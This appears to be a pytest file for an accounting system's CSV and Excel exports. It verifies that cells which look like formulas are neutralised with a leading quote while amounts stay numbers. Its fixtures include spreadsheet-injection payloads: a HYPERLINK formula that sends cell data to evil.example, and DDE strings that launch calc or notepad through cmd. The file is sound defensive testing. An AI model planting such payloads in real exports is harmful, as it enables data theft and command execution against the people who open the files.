"""Exports cannot attack finance: a text cell that a spreadsheet would run as a formula is
neutralised with a leading quote (OWASP), in every layout, over the COPY path and the Python
path alike, while amounts and quantities (negative red-letter ones too) stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from accounting import exports
from accounting.exports import FORMULA_STARTS, LAYOUTS, neutralise, write_csv, write_xlsx
from accounting.models import Account
from tests.factories import CustomerFactory, MaterialBatchFactory, SupplierFactory, UserFactory

from .factories import finance_pair, make_dispute, posted_vouchers

pytestmark = pytest.mark.django_db

CUSTOMER = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
SUPPLIER = "-2+3+cmd|' /C calc'!A0"
PREPARER = "@SUM(1+1)*cmd|' /C calc'!A0"
SOURCE = "+cmd|' /C notepad'!A0"
SUMMARY_ACCOUNT = "\t=1+1"  # a company account name starting with a tab
REVIEWER = "\r=2+2"

HOSTILE = (CUSTOMER, SUPPLIER, PREPARER, SOURCE, SUMMARY_ACCOUNT, REVIEWER)


@pytest.fixture
def hostile_books():
    preparer, reviewer = finance_pair()
    preparer.full_name, reviewer.full_name = PREPARER, REVIEWER
    preparer.save()
    reviewer.save()
    Account.objects.filter(code="6001").update(company_name=SUMMARY_ACCOUNT)
    sales = make_dispute(
        preparer,
        node="after_sale",
        outcome="return",
        invoice_status="invoiced",
        affected_quantity=Decimal("5"),
        unit_price=Decimal("8000"),
        unit_cost=Decimal("5500"),
        customer=CustomerFactory(name=CUSTOMER),
        source_reference=SOURCE,
        costs=None,
    )
    purchase = make_dispute(
        preparer,
        node="after_issue",
        outcome="return",
        invoice_status="not_invoiced",
        affected_quantity=Decimal("2"),
        material_batch=MaterialBatchFactory(
            unit_price=Decimal("4800"), supplier=SupplierFactory(name=SUPPLIER)
        ),
        source_reference=SOURCE,
        costs=None,
    )
    posted_vouchers(sales, preparer, reviewer)
    posted_vouchers(purchase, preparer, reviewer)
    return sales, purchase


def _csv(layout: str, *, use_copy: bool) -> bytes:
    out = io.BytesIO()
    write_csv(out, layout, {}, use_copy=use_copy)
    return out.getvalue()


def _rows(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _numeric_headers(layout: str) -> set[str]:
    return {
        "借方金额", "贷方金额", "数量", "单价", "原币金额", "借方", "贷方", "外币借方金额", "外币贷方金额",
        "数量借方", "数量贷方",
    } & {c.header for c in LAYOUTS[layout]}  # fmt: skip


def _assert_inert(layout: str, rows: list[list]) -> None:
    headers = rows[0]
    numeric = _numeric_headers(layout)
    seen = set()
    for row in rows[1:]:
        for header, cell in zip(headers, row, strict=True):
            if cell in ("", None):
                continue
            if header in numeric:
                Decimal(str(cell))  # a number, not text: red-letter amounts stay "-45200.00"
                continue
            assert not str(cell).startswith(FORMULA_STARTS), (layout, header, cell)
            for text in HOSTILE:
                if str(cell) == "'" + text:
                    seen.add(text)
    return seen


@pytest.mark.parametrize("layout", ["generic", "kingdee", "u8"])
def test_python_csv_neutralises_hostile_text_and_keeps_numbers(hostile_books, layout):
    rows = _rows(_csv(layout, use_copy=False))
    seen = _assert_inert(layout, rows)
    # the hostile customer, supplier, preparer and source document all reached the file, made inert
    expected = {CUSTOMER, SUPPLIER, PREPARER, REVIEWER}
    if "科目名称" in rows[0]:  # U8 takes the code only
        expected.add(SUMMARY_ACCOUNT)
    if layout == "kingdee":
        expected.add(SOURCE)  # 往来业务编号 carries the bare source document
    assert expected <= seen, expected - seen
    numeric = [h for h in ("借方金额", "贷方金额", "借方", "贷方") if h in rows[0]]
    amounts = [Decimal(r[rows[0].index(h)]) for r in rows[1:] for h in numeric if r[rows[0].index(h)]]
    assert Decimal("-45200.00") in amounts  # a red-letter amount, a plain negative number


@pytest.mark.postgres
@pytest.mark.parametrize("layout", ["generic", "kingdee", "u8"])
@pytest.mark.parametrize("by_code", [True, False], ids=["ascii", "left"])
def test_copy_path_neutralises_byte_for_byte_like_the_python_path(
    hostile_books, layout, by_code, monkeypatch
):
    # ascii() where the server encoding allows it (UTF8 here), left() elsewhere: the same bytes
    monkeypatch.setattr(exports, "_ASCII_READS_ANY", f"SELECT {by_code}")
    fast, slow = _csv(layout, use_copy=True), _csv(layout, use_copy=False)
    assert fast == slow
    assert "'" + PREPARER in fast.decode("utf-8-sig")
    assert {SUPPLIER, PREPARER} <= _assert_inert(layout, _rows(fast))


@pytest.mark.parametrize("layout", ["generic", "kingdee", "u8"])
def test_xlsx_stores_hostile_text_as_inert_strings_and_amounts_as_numbers(hostile_books, layout):
    out = io.BytesIO()
    write_xlsx(out, layout, {})
    ws = load_workbook(io.BytesIO(out.getvalue())).active
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    seen = _assert_inert(layout, rows)
    assert {CUSTOMER, SUPPLIER, PREPARER} <= seen
    headers = rows[0]
    col = headers.index("借方金额" if layout != "kingdee" else "借方")
    debit = [r[col] for r in rows[1:] if r[col] not in (None, 0)]
    assert all(isinstance(v, int | float) for v in debit) and -45200 in debit


def test_neutralise_leaves_numbers_and_harmless_text_alone():
    assert neutralise(Decimal("-45200.00")) == Decimal("-45200.00")
    assert neutralise(-5) == -5
    assert neutralise("记-0001") == "记-0001" and neutralise("") == ""
    assert [neutralise(c + "x") for c in FORMULA_STARTS] == ["'" + c + "x" for c in FORMULA_STARTS]


def test_the_supplier_is_the_counterparty_on_payable_lines_and_the_customer_on_receivables(hostile_books):
    rows = _rows(_csv("generic", use_copy=False))
    parties = {(r[5], r[11]) for r in rows[1:]}
    assert ("1122", "'" + CUSTOMER) in parties and ("220201", "'" + SUPPLIER) in parties
    assert {p for code, p in parties if code in ("6001", "5001", "1403", "6401", "1405", "222102")} == {""}
    kingdee = _rows(_csv("kingdee", use_copy=False))
    headers = kingdee[0]
    items = {(r[headers.index("科目代码")], r[headers.index("核算项目")]) for r in kingdee[1:]}
    assert ("220201", "'" + SUPPLIER) in items and ("1122", "'" + CUSTOMER) in items
    assert ("1403", "") in items


def test_a_username_only_preparer_is_neutralised_too():
    preparer = UserFactory(roles=["finance"], full_name="", first_name="", last_name="", username="-fin")
    _, reviewer = finance_pair()
    posted_vouchers(make_dispute(preparer), preparer, reviewer)
    rows = _rows(_csv("generic", use_copy=False))
    assert {r[13] for r in rows[1:]} == {"'-fin"}
